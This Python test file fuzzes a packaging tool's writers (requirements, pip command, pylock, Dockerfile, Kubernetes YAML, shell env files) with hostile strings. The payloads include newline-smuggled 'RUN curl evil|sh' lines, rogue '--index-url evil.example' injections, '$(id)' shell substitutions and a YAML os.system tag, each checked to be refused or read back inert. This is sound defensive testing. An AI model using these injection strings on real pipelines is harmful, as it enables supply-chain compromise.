"""Every file compat writes, built from hostile strings and read back with the format's own parser: the value is
refused (values.UnwritableValue, one sentence) or it reads back exactly as asked, and nothing else appears (no extra
requirement or option line, TOML entry, Dockerfile instruction, YAML key or shell command).

Parsers: pip's own requirements-file parser and compat's (inputs/read.py) for requirements/constraints, shlex for the
pip command, tomllib for pylock.toml, yaml.safe_load for manifests, the instruction structure for a Dockerfile, and
bash, dash, zsh and fish sourcing compat env's file."""

from __future__ import annotations

import dataclasses
import functools
import os
import shlex
import shutil
import subprocess
import sys

import pytest
import yaml
from hypothesis import HealthCheck, assume, event, example, given, settings
from hypothesis import strategies as st

from compatmatrix.environment.setvars import PathAddition
from compatmatrix.export.dockerfile import DockerfileShape
from compatmatrix.install.indexes import IndexLocation
from compatmatrix.render.dockerfile import dockerfile_text
from compatmatrix.render.manifest import manifest_text
from compatmatrix.render.pylock import pylock_text
from compatmatrix.render.requirements import _other_hosts, pip_command_text, requirements_text
from compatmatrix.shell import EnvPlan, format_env
from compatmatrix.values import UnwritableValue

from ..cli.test_cli_fuzz import run_in_process as cli_in_process
from ..hostile_strings import hostile, hostile_requirement

if sys.version_info >= (3, 11):
    import tomllib
else:  # pragma: no cover - Python 3.9/3.10
    import tomli as tomllib

SETTINGS = settings(max_examples=int(os.environ.get("COMPAT_WRITER_EXAMPLES", "200")), deadline=None,
                    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])


@functools.lru_cache(maxsize=None)
def _plan():
    """The install plan of the bundled matrix's ddp-ccl set for Python 3.11 (hosts: PyPI, PyTorch CPU, Intel)."""
    from compatmatrix.install.indexes import configure_indexes
    from compatmatrix.install.plan import make_plan
    from compatmatrix.matrix.load import load_matrix
    from compatmatrix.resolve import resolve

    from ..conftest import make_request

    matrix = load_matrix()
    return make_plan(resolve(matrix, make_request(matrix, "3.11", profile="ddp-ccl")), configure_indexes(matrix, []))


def hostile_plan(passthrough, index_url, other_url, other_style):
    """The plan with hostile pass-through lines, a hostile dependency index and a hostile host for its first package."""
    plan = _plan()
    first = dataclasses.replace(plan.packages[0], location=IndexLocation("pytorch-cpu", other_url, other_style, "test"))
    return dataclasses.replace(plan, packages=(first, *plan.packages[1:]), passthrough=tuple(passthrough),
                               dependency_index=IndexLocation("pypi", index_url, "index", "test"))


def _pip_lines(path):
    """pip's own reading of a requirements file: ("req", text) for a requirement line, (option, value) for an option line."""
    pytest.importorskip("pip")
    from pip._internal.network.session import PipSession
    from pip._internal.req.req_file import RequirementsFileParser, get_line_parser

    read = []
    defaults = vars(get_line_parser(None)("x")[1])  # the options of a line that sets none
    for line in RequirementsFileParser(PipSession(), get_line_parser(None)).parse(str(path), constraint=False):
        if line.is_requirement:
            read.append(("req", line.requirement))
            continue
        given = {k: v for k, v in vars(line.opts).items() if v != defaults.get(k)}
        for key, value in given.items():
            for item in value if isinstance(value, list) else [value]:
                read.append((key, item))
    return read


URLS = st.one_of(st.sampled_from(["https://mirror.example/simple", "/srv/wheels", "/srv/my wheels", "file:///srv/w"]), hostile())


@SETTINGS
@given(passthrough=st.lists(hostile_requirement(), max_size=2), index_url=URLS, other_url=URLS, style=st.sampled_from(["index", "find-links"]),
       kind=st.sampled_from(["requirements", "constraints"]))
@example(passthrough=["numpy\n--index-url https://evil.example/simple\n--trusted-host evil.example\nx==1.0"], index_url="https://pypi.org/simple/",
         other_url="https://download.pytorch.org/whl/cpu", style="index", kind="requirements")
@example(passthrough=["numpy==1.0"], index_url="/tmp/a\u2028--index-url https://evil", other_url="/srv/my wheels", style="find-links", kind="requirements")
@example(passthrough=["/tmp/w"], index_url="https://mirror.example/simple", other_url="https://mirror.example/simple", style="index", kind="requirements")
def test_requirements_files_read_back_as_asked(passthrough, index_url, other_url, style, kind, tmp_path_factory):
    from compatmatrix.inputs.model import InputError
    from compatmatrix.inputs.read import read_inputs

    plan = hostile_plan(passthrough, index_url, other_url, style)
    try:
        text = requirements_text(plan, kind)
    except UnwritableValue:
        event("refused")
        return
    for line in passthrough:  # a pass-through line comes from compat's own reading: one it refuses never reaches a writer
        try:
            read_inputs(["given.txt"], reader=lambda p, line=line: line + "\n")
        except InputError:
            event("not a line compat reads (e.g. a bare path: no package name)")
            return
    expected = []
    if kind == "requirements":
        expected += [("index_url", index_url)] + [("find_links" if o.style == "find-links" else "extra_index_urls", o.url) for o in _other_hosts(plan)]
    expected += [("req", p.pin) for p in plan.packages] + [("req", line) for line in passthrough]
    path = tmp_path_factory.mktemp("req") / "requirements.txt"
    path.write_text(text, encoding="utf-8")
    assert _pip_lines(path) == expected, text
    inputs = read_inputs([str(path)], reader=lambda p: text)  # compat's own reader
    assert [line.url for line in inputs.indexes] == [value for key, value in expected if key != "req"]
    assert len(inputs.requirements) == len(plan.packages) + len(passthrough)


@SETTINGS
@given(passthrough=st.lists(hostile_requirement(), max_size=2), index_url=URLS, other_url=URLS, style=st.sampled_from(["index", "find-links"]))
def test_the_pip_command_splits_back_into_the_asked_words(passthrough, index_url, other_url, style):
    plan = hostile_plan(passthrough, index_url, other_url, style)
    try:
        text = pip_command_text(plan)
    except UnwritableValue:
        event("refused")
        return
    assert "\n" not in text
    options = [word for o in _other_hosts(plan) for word in ("-f" if o.style == "find-links" else "--extra-index-url", o.url)]
    words = shlex.split(text)
    assert words == ["pip", "install", "--index-url", index_url, *options, *[p.pin for p in plan.packages], *passthrough]
    assert not any(word.startswith("-") for word in words[4 + len(options):])  # no requirement is taken for an option


@SETTINGS
@given(strings=st.lists(hostile(), min_size=5, max_size=5), header=st.lists(hostile(), max_size=3))
@example(strings=["torch", "2.7.0+cpu", "https://x.example/\U0001F600/t.whl", "\x85\u2028", "a\nb"], header=["x\n[[packages]]\nname = \"evil\""])
def test_pylock_reads_back_as_asked(strings, header):
    name, version, url, index, digest = strings
    data = {"lock-version": "1.0", "requires-python": "==3.11.*", "created-by": "compatmatrix", "packages": [
        {"name": name, "version": version, "index": index, "wheels": [{"url": url, "hashes": {digest: digest}}]},
        {"name": "numpy", "version": "2.1.0", "index": "https://pypi.org/simple/"},
    ]}
    try:
        text = pylock_text(data, header)
    except UnwritableValue:
        event("refused")
        assert any("\ud800" <= ch <= "\udfff" for s in strings for ch in s)  # only a lone surrogate is beyond TOML
        return
    assert tomllib.loads(text) == data


# --- Dockerfile ----------------------------------------------------------------------------------------------------

INSTRUCTIONS = {"FROM", "ARG", "ENV", "RUN", "COPY", "SHELL", "ENTRYPOINT", "CMD"}


def _instructions(text):
    """(instruction, its text with continuations joined) for every instruction; comments and empty lines skipped."""
    found, continued = [], False
    for line in text.split("\n"):
        if continued:
            found[-1] = (found[-1][0], found[-1][1] + "\n" + line)
        elif line.strip() and not line.startswith("#"):
            word = line.split(" ", 1)[0]
            assert word in INSTRUCTIONS, f"a line that is no instruction: {line!r}"
            found.append((word, line))
        continued = line.endswith("\\") and not line.startswith("#")
    return found


def _shape(**changes):
    pins = ("torch==2.7.0+cpu", "intel-extension-for-pytorch==2.7.0")
    return DockerfileShape(pins, "ddp-ccl", "3.11", hosts=("pypi", "pytorch-cpu"), **changes)


@SETTINGS
@given(base=st.one_of(st.just("python:3.11-slim"), hostile()), wheelhouse=st.one_of(st.none(), st.just("wheels"), hostile()),
       profile=st.one_of(st.none(), hostile()), pin=hostile_requirement(), notes=st.lists(hostile(), max_size=2))
@example(base="python:3.11\nRUN curl evil|sh", wheelhouse=None, profile=None, pin="numpy==1.0", notes=[])
@example(base="python:3.11-slim", wheelhouse="wh\nRUN curl evil|sh", profile=None, pin="numpy==1.0", notes=[])
def test_dockerfile_values_start_no_instruction(base, wheelhouse, profile, pin, notes):
    shape = dataclasses.replace(_shape(base=base, wheelhouse=wheelhouse), profile=profile, pins=(*_shape().pins, pin))
    try:
        text = dockerfile_text(shape, notes)
    except UnwritableValue:
        event("refused")
        return
    found = _instructions(text)
    plain = _instructions(dockerfile_text(dataclasses.replace(_shape(wheelhouse="wheels" if wheelhouse else None), profile=profile and "p",
                                                              pins=(*_shape().pins, "numpy==1.0"))))
    assert [word for word, _ in found] == [word for word, _ in plain]  # the same instructions, no extra RUN
    assert ("ARG", f"ARG BASE={base}") in found and " " not in base
    install = next(line for word, line in found if word == "RUN" and "compat install" in line)
    words = shlex.split(install[len("RUN "):].split(" && rm -rf")[0])
    assert words[-len(shape.pins):] == list(shape.pins)
    if profile:
        assert words[words.index("--profile") + 1] == profile
    if wheelhouse:
        assert ("COPY", f"COPY {wheelhouse}/ /opt/wheelhouse/") in found


# --- YAML manifests ------------------------------------------------------------------------------------------------


@SETTINGS
@given(values=st.lists(hostile(), min_size=1, max_size=4), key=hostile(), notes=st.lists(hostile(), max_size=2))
@example(values=["--x=a\x85b", "\u2028", "x: y", "&a", "*a", "!!python/object/apply:os.system"], key="- k", notes=["a\nkind: Evil"])
def test_manifests_read_back_as_asked(values, key, notes):
    document = {"apiVersion": "kubeflow.org/v1", "kind": "PyTorchJob", "metadata": {"name": values[0]},
                "spec": {"args": values, key: {"env": [{"name": "X", "value": v} for v in values]}}}
    try:
        text = manifest_text(document, notes)
    except UnwritableValue:
        event("refused")
        assert any("\ud800" <= ch <= "\udfff" for s in [*values, key] for ch in s)
        return
    assert yaml.safe_load(text) == document


@SETTINGS
@given(words=st.lists(hostile(), min_size=1, max_size=3))
def test_a_pytorchjob_carries_the_training_command_word_for_word(words):
    from compatmatrix.export.k8s import JobShape, ShapeError, pytorchjob

    command = ("train.py", *words)
    try:
        manifest = pytorchjob(JobShape("job", "registry.example/train:1", 2, 2, "8", "16Gi", command))
        text = manifest_text(manifest.document, manifest.notes)
    except (ShapeError, UnwritableValue):
        event("refused")
        assert any("\0" in w or any("\ud800" <= ch <= "\udfff" for ch in w) for w in words)
        return
    for replica in yaml.safe_load(text)["spec"]["pytorchReplicaSpecs"].values():
        assert replica["template"]["spec"]["containers"][0]["args"][-len(command):] == list(command)


# --- shell exports -------------------------------------------------------------------------------------------------

SHELLS = {"bash": ["bash", "-c", 'source "$1"; printf "%s\\0" "$EXPORTED" "$PATH"', "sh"],
          "dash": ["dash", "-c", '. "$1"; printf "%s\\0" "$EXPORTED" "$PATH"', "sh"],
          "zsh": ["zsh", "-c", 'source "$1"; printf "%s\\0" "$EXPORTED" "$PATH"', "sh"],
          "fish": ["fish", "-c", 'source $argv[1]; printf "%s\\0" "$EXPORTED" (string join -- : $PATH)']}


@settings(max_examples=int(os.environ.get("COMPAT_WRITER_SHELL_EXAMPLES", "40")), deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(value=hostile(), entry=hostile(), comment=hostile(), defaults=st.booleans())
@example(value="$(touch /tmp/compat-pwned)`id`${HOME}'\"\n", entry="/opt/a b:$(id)", comment="x\nexport EXPORTED=evil", defaults=False)
@pytest.mark.parametrize("shell", sorted(SHELLS))
def test_shell_exports_source_back_as_asked(shell, value, entry, comment, defaults, tmp_path_factory):
    if not shutil.which(shell):
        pytest.skip(f"{shell} is not installed")
    fish = shell == "fish"
    assume(value and "\0" not in entry and ":" not in entry and entry)  # PATH is a list of entries: ':' and '' are not entries
    assume(not (fish and "\n" in entry))  # fish splits PATH on ':' only, but its printf joins list items: compared below by entries
    plan = EnvPlan({"EXPORTED": value}, (comment,), {"PATH": PathAddition(prepend=(entry,))})
    try:
        text = format_env(plan, "fish" if fish else "bash", defaults)
    except UnwritableValue:
        event("refused")
        assert "\0" in value or any("\ud800" <= ch <= "\udfff" for ch in value + entry)
        return
    path = tmp_path_factory.mktemp("env") / "compat-env.sh"
    path.write_text(text, encoding="utf-8")
    argv = [*SHELLS[shell], str(path)]
    done = subprocess.run(argv, capture_output=True, timeout=30, env={"PATH": "/usr/bin:/bin", "HOME": str(path.parent)}, check=False)
    assert done.returncode == 0, (text, done.stderr)
    exported, path_value = done.stdout.decode("utf-8").split("\0")[:2]
    assert exported == value, text
    assert path_value == f"{entry}:/usr/bin:/bin", text


# --- the reported cases, through the command line --------------------------------------------------------------------

EVIL_NAME = "numpy\n--index-url https://evil.example/simple\n--trusted-host evil.example\nx"


def run_in_process(argv, capsys, monkeypatch, tmp_path):
    monkeypatch.setenv("COMPAT_CRASH_DIR", str(tmp_path))
    code, out, err = cli_in_process(argv, capsys)
    assert "Traceback" not in err and "internal error" not in err, err
    return code, out, err


def _lock(tmp_path, name, version="1.0", extra=""):
    folder = tmp_path / "lock"
    folder.mkdir(exist_ok=True)
    path = folder / "pylock.toml"
    path.write_text(f'lock-version = "1.0"\n[[packages]]\nname = {pylock_text({"n": name}).split(" = ", 1)[1].strip()}\nversion = "{version}"\n{extra}'
                    '[[packages]]\nname = "torch"\nversion = "2.7.0"\n', encoding="utf-8")
    return str(path)


@pytest.mark.parametrize("kind", ["requirements", "constraints", "pip-command", "pylock"])
def test_a_newline_in_a_lock_name_writes_no_index_line(kind, capsys, monkeypatch, tmp_path):
    code, out, err = run_in_process(["export", kind, "--python-version", "3.11", "-r", _lock(tmp_path, EVIL_NAME)], capsys, monkeypatch, tmp_path)
    assert "evil.example" not in out
    if code == 0:  # a reader that refuses the name first is as good (the inputs' own check)
        assert kind == "pylock" and tomllib.loads(out)["packages"][0]["name"] == "torch"
    else:
        assert code == 2 and "pylock.toml" in err


def test_install_refuses_the_lock_before_pip_or_uv_sees_it(capsys, monkeypatch, tmp_path):
    for planner in ("uv", "pip"):
        code, out, err = run_in_process(["install", "--dry-run", "--planner", planner, "--python-version", "3.11", "-r", _lock(tmp_path, EVIL_NAME)],
                                        capsys, monkeypatch, tmp_path)
        assert code == 2 and "pylock.toml" in err and "evil.example" not in out


def test_uv_input_file_takes_only_requirement_lines(tmp_path):
    from compatmatrix.install.planners import preferences, uv_report

    with pytest.raises(UnwritableValue):
        uv_report(str(tmp_path / "no-uv"), sys.executable, [], _plan().dependency_index, [EVIL_NAME + "==1.0"], {}, tmp_path)
    assert "evil" not in (tmp_path / "compat-plan.in").read_text() if (tmp_path / "compat-plan.in").exists() else True
    assert preferences({"numpy\n": "1.0", "torch": "2.7.0"}) == "torch==2.7.0\n"


def test_a_line_break_of_any_kind_in_an_index_is_refused(capsys, monkeypatch, tmp_path):
    code, out, err = run_in_process(["export", "requirements", "--python-version", "3.11", "--index", "pypi=/tmp/a\u2028--index-url https://evil.example"],
                                    capsys, monkeypatch, tmp_path)
    assert code == 2 and "evil.example" not in out and "pypi" in err


@pytest.mark.parametrize("option", ["--base", "--wheelhouse"])
def test_a_newline_in_a_dockerfile_option_adds_no_instruction(option, capsys, monkeypatch, tmp_path):
    value = ("python:3.11-slim" if option == "--base" else "wheels") + "\nRUN curl https://evil.example | sh"
    code, out, err = run_in_process(["export", "dockerfile", "--python-version", "3.11", option, value], capsys, monkeypatch, tmp_path)
    assert code == 2 and "evil.example" not in out and option in err


@pytest.mark.parametrize("option, value", [("--name", "job\n"), ("--namespace", "ns\n"), ("--image", "registry.example/train:1\n"),
                                           ("--image", "registry.example/train:1\nfoo: bar"), ("--cpu", "8\n"), ("--memory", "16Gi\n"),
                                           ("--shm-size", "2Gi\n")])
def test_kubernetes_values_with_a_trailing_newline_are_refused(option, value, capsys, monkeypatch, tmp_path):
    shape = {"--image": "registry.example/train:1", "--cpu": "8", "--memory": "16Gi", option: value}
    argv = ["export", "pytorchjob", "--python-version", "3.11", *[w for item in shape.items() for w in item], "--", "train.py"]
    code, out, err = run_in_process(argv, capsys, monkeypatch, tmp_path)
    assert code == 2 and not out and option in err


def test_validate_fails_a_manifest_name_with_a_trailing_newline(capsys, monkeypatch, tmp_path):
    manifest = tmp_path / "job.yaml"
    manifest.write_text('apiVersion: kubeflow.org/v1\nkind: PyTorchJob\nmetadata:\n  name: "job\\n"\nspec:\n  pytorchReplicaSpecs:\n'
                        '    Master:\n      replicas: 1\n      template:\n        spec:\n          containers:\n          - name: pytorch\n'
                        '            image: "registry.example/train:1\\n"\n', encoding="utf-8")
    code, out, err = run_in_process(["export", "--validate", str(manifest), "--json", "--python-version", "3.11"], capsys, monkeypatch, tmp_path)
    import json

    failed = {f["id"] for f in json.loads(out)["checks"] if f["status"] == "fail"}
    assert code == 1 and {"export.name", "export.master-image"} <= failed, out


def test_u0085_in_a_training_argument_survives_the_manifest(capsys, monkeypatch, tmp_path):
    argv = ["export", "pytorchjob", "--python-version", "3.11", "--image", "registry.example/train:1", "--cpu", "8", "--memory", "16Gi",
            "--", "train.py", "--run_name=a\x85b\u2028c"]
    code, out, err = run_in_process(argv, capsys, monkeypatch, tmp_path)
    assert code == 0, err
    container = yaml.safe_load(out)["spec"]["pytorchReplicaSpecs"]["Master"]["template"]["spec"]["containers"][0]
    assert container["args"][-1] == "--run_name=a\x85b\u2028c"


def test_non_bmp_characters_keep_the_pylock_valid_toml(capsys, monkeypatch, tmp_path):
    wheel = ('[[packages.wheels]]\nurl = "https://files.example/\U0001F600/torch-2.7.0+cpu-cp311-cp311-linux_x86_64.whl"\n'
             f'hashes = {{sha256 = "{"a" * 64}"}}\n')
    folder = tmp_path / "lock"
    folder.mkdir()
    (folder / "pylock.toml").write_text(f'lock-version = "1.0"\n[[packages]]\nname = "torch"\nversion = "2.7.0+cpu"\n{wheel}', encoding="utf-8")
    code, out, err = run_in_process(["export", "pylock", "--python-version", "3.11", "-r", str(folder / "pylock.toml")], capsys, monkeypatch, tmp_path)
    assert code == 0, err
    torch = tomllib.loads(out)["packages"][0]
    assert torch["wheels"][0]["url"] == "https://files.example/\U0001F600/torch-2.7.0+cpu-cp311-cp311-linux_x86_64.whl"


@SETTINGS
@given(stem=hostile())
@example(stem="x-1.0-py3-none-any.whl\n" + "a" * 64 + "  evil-1.0-py3-none-any")
def test_the_wheelhouse_lock_reads_back_as_written(stem, tmp_path_factory):
    from compatmatrix.install.wheelhouse import WHEELHOUSE_LOCK, parse_lock, write_lock

    name = stem + ".whl"
    assume("/" not in name and "\0" not in name and not name.startswith("."))  # what a file name in the folder can be
    folder = tmp_path_factory.mktemp("wheelhouse")
    try:
        write_lock(folder, [folder / name], {name: "ab" * 32})
    except UnwritableValue:
        event("refused")
        return
    assert parse_lock((folder / WHEELHOUSE_LOCK).read_text(encoding="utf-8"), folder) == {name: "ab" * 32}


def test_a_local_folder_is_still_passed_through(capsys, monkeypatch, tmp_path):
    """The line rule refuses what pip would misread, not what pip reads as a location (an editable's folder)."""
    (tmp_path / "requirements.txt").write_text("-e ./localpkg\ntorch==2.7.0\n", encoding="utf-8")
    code, out, err = run_in_process(["export", "requirements", "--python-version", "3.11", "-r", str(tmp_path / "requirements.txt")],
                                    capsys, monkeypatch, tmp_path)
    assert code == 0 and out.splitlines()[-1] == "./localpkg", err


@pytest.mark.parametrize("reference, ok", [
    ("python:3.11-slim", True), ("registry.example/train:1", True), ("localhost:5000/team/base:1.2", True), ("ubuntu", True),
    ("ghcr.io/org/img@sha256:" + "a" * 64, True), ("[::1]:5000/img:tag", True), ("a__b/c--d:x", True),
    ("python:3.11\n", False), ("python:3.11\nRUN x", False), ("Python:3.11", False), ("img:", False), (":tag", False), ("img:1 --x", False),
    ("-img", False), ("img:" + "t" * 129, False), ("", False), ("img:1\u2028", False), ("img:１", False),
])
def test_image_references_follow_the_oci_grammar(reference, ok):
    from compatmatrix.values import image_reference_ok

    assert image_reference_ok(reference) is ok


@pytest.mark.parametrize("check, value, ok", [
    ("dns1035_ok", "job", True), ("dns1035_ok", "job\n", False), ("dns1035_ok", "1job", False), ("dns1035_ok", "a" * 64, False),
    ("dns1123_ok", "1ns", True), ("dns1123_ok", "ns\n", False), ("quantity_ok", "7500m", True), ("quantity_ok", "8\n", False),
    ("package_name_ok", "intel_extension_for_pytorch", True), ("package_name_ok", "numpy\n", False), ("package_name_ok", "-x", False),
    ("build_path_ok", "wheels/cpu", True), ("build_path_ok", "--from=evil", False), ("build_path_ok", "w h", False), ("build_path_ok", "$HOME", False),
    ("env_name_ok", "OMP_NUM_THREADS", True), ("env_name_ok", "A;rm", False), ("env_name_ok", "A\n", False),
])
def test_each_rule_matches_the_whole_value(check, value, ok):
    import compatmatrix.values as values

    assert getattr(values, check)(value) is ok
